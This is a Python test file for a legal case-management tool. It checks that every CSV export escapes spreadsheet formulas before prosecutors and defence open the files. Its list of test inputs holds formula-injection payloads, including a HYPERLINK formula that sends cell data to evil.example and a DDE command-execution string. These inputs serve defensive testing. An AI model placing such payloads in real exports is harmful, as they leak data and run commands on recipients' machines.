"""Every CSV Drachma writes goes through one writer that writes no spreadsheet formula: the
schedules and logs go to prosecutors and the defence, who open them in spreadsheet programs."""

import csv
import io
import pathlib
import re

import pytest

from drachma.core import spreadsheets
from drachma.evidence import documents as evidence_documents
from drachma.evidence import services as evidence_services
from drachma.takedown import documents as takedown_documents
from drachma.takedown import services as takedown_services
from tests.factories import make_incident

SRC = pathlib.Path(__file__).resolve().parents[2] / "src" / "drachma"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_is_written_as_text(value):
    out = io.StringIO()
    spreadsheets.writer(out).writerow([value, "plain", 5, None])
    [row] = list(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'" + value, "plain", "5", ""]


@pytest.mark.parametrize("value", ["plain", "a=b", "email@example.org", "5", "", 12, 1.5, None])
def test_anything_else_is_written_as_given(value):
    assert spreadsheets.safe_cell(value) == value


def test_no_module_writes_csv_any_other_way():
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path.name != "spreadsheets.py"
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


@pytest.mark.django_db
def test_the_disclosure_schedule_and_the_publication_log_write_no_formula(make_user):
    incident = make_incident(make_user("analyst"))
    officer = make_user("disclosure_officer")
    evidence_services.create_disclosure_entry(
        incident=incident, user=officer, description=HOSTILE[0], location="@store"
    )
    [_, row] = list(csv.reader(io.StringIO(evidence_documents.schedule_csv(incident, "MG6C"))))
    assert row[1] == "'" + HOSTILE[0] and row[2] == "'@store"
    takedown_services.record_publication(
        incident=incident,
        user=make_user("investigator"),
        url="https://video.example/x",
        platform="youtube",
        description="=1+1 posted by the group",
    )
    rows = list(csv.reader(io.StringIO(takedown_documents.publication_csv(incident))))
    assert rows[1][-1] == "'=1+1 posted by the group"
